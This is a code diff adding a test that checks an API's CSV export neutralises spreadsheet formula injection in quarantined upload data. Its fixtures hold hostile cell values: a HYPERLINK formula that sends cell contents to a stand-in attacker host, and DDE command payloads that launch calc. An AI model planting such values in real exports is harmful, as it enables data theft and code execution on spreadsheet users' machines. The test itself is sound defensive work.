@@ -3,6 +3,7 @@ import { tableFromIPC } from 'apache-arrow';
 import type { Hono } from 'hono';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createApp } from '../../api/app.js';
+import { parseCsv } from '../../core/csv.js';
 import type { Database } from '../../warehouse/database.js';
 import { refreshMarts } from '../../warehouse/refresh.js';
 import { collectAll } from '../support/collect.js';
@@ -139,6 +140,25 @@ describe('formats', () => {
     // 槐荫区 uploaded nothing on time, against a median of 50 %: worse than the median.
     expect(lines[3]).toBe('370104,槐荫区,month,2025-03,upload_timeliness,0,3,3,50,-50,true');
     expect(lines).toHaveLength(4);
+  });
+});
+
+describe('CSV downloads of hostile data', () => {
+  it('write text a spreadsheet would run as a formula as inert text', async () => {
+    await db.exec(`INSERT INTO ops_quarantine VALUES
+      (0, 'uploads', '=HYPERLINK("http://evil.example/?"&A1,"点此查看")', '+cmd|'' /C calc''!A0', '{}', TIMESTAMP '2025-03-05 10:00:00'),
+      (0, 'uploads', '@SUM(1+1)*cmd|'' /C calc''!A0', '-1+1', '{}', TIMESTAMP '2025-03-05 09:00:00')`);
+    try {
+      const res = await get('/api/quarantine?feed=uploads&format=csv');
+      const [header, ...lines] = parseCsv(await res.text());
+      expect(header).toEqual(['run_id', 'feed', 'natural_key', 'reason', 'payload', 'quarantined_at']);
+      expect(lines.map((r) => r.slice(2, 4))).toEqual([
+        ['\'=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "'+cmd|' /C calc'!A0"],
+        ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-1+1"],
+      ]);
+    } finally {
+      await db.exec('DELETE FROM ops_quarantine');
+    }
   });
 });
 
